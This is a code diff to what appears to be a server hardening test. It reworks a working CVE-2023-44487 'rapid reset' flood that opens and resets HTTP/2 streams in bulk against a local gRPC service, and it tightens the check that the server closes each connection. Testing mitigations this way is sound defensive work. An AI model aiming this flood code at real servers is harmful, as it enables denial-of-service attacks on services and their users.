@@ -201,30 +201,36 @@ def ping_flood(stop):
 
 
 def rapid_reset(stop):
-    """CVE-2023-44487: requests opened and reset at once, as fast as the socket takes them."""
-    sock = socket.create_connection(("127.0.0.1", PORT))
-    sock.sendall(PREFACE + frame(4, 0, 0, b""))
+    """CVE-2023-44487: requests opened and reset at once, as fast as the socket takes
+    them, on connection after connection: nghttp2 sends each away (GOAWAY) after 1,000,
+    and the server closes it once it keeps sending regardless (1 MiB past the GOAWAY)."""
     head = bytes([0x83, 0x86]) + bytes([0x04, 0x1D]) + b"/gate.GateService/CallObject" + bytes([0x01, 0x01]) + b"x"
-    stream, sent = 1, 0
-    try:
-        while not stop.is_set():
-            batch = b""
-            for _ in range(100):
-                batch += frame(1, 0x4, stream, head) + frame(3, 0, stream, struct.pack(">I", 8))
-                stream += 2
-            sock.sendall(batch)
-            sent += 100
-            sock.setblocking(False)
-            try:
-                while sock.recv(65536):
+    connections, closed, sent = 0, 0, 0
+    while not stop.is_set():
+        sock = socket.create_connection(("127.0.0.1", PORT))
+        connections += 1
+        stream = 1
+        try:
+            sock.sendall(PREFACE + frame(4, 0, 0, b""))
+            while not stop.is_set():
+                batch = b""
+                for _ in range(100):
+                    batch += frame(1, 0x4, stream, head) + frame(3, 0, stream, struct.pack(">I", 8))
+                    stream += 2
+                sock.sendall(batch)
+                sent += 100
+                sock.setblocking(False)
+                try:
+                    while True:
+                        if not sock.recv(65536):
+                            raise ConnectionResetError("closed by the server")
+                except BlockingIOError:
                     pass
-            except (BlockingIOError, OSError):
-                pass
-            sock.setblocking(True)
-    except OSError:
-        pass
-    sock.close()
-    return {"resets": sent}
+                sock.setblocking(True)
+        except OSError:
+            closed += 1
+        sock.close()
+    return {"connections": connections, "closed_by_server": closed, "resets": sent}
 
 
 def resident_mib():
@@ -426,7 +432,9 @@ def probe(name, attack, verdict):
 probe("baseline", lambda stop: (stop.wait(), {})[1], lambda outcome: True)
 probe("HPACK bombs", hpack_bombs, lambda o: o.get("connections", 0) >= 1 and o["goaways"] == o["connections"])
 probe("PING flood", ping_flood, lambda o: o.get("connections", 0) >= 1 and o["goaways"] == o["connections"])
-probe("rapid reset", rapid_reset, lambda o: o.get("resets", 0) > 0)
+probe("rapid reset", rapid_reset,
+      # Every connection but the one the window's end interrupted was closed by the server.
+      lambda o: o.get("connections", 0) >= 2 and o["closed_by_server"] >= o["connections"] - 1)
 before_mib = resident_mib()
 probe("unread pushes", unread_pushes,
       # Cut down to the connection's 16 MiB budget; memory bounded by it, not by 200 x 4 MiB.
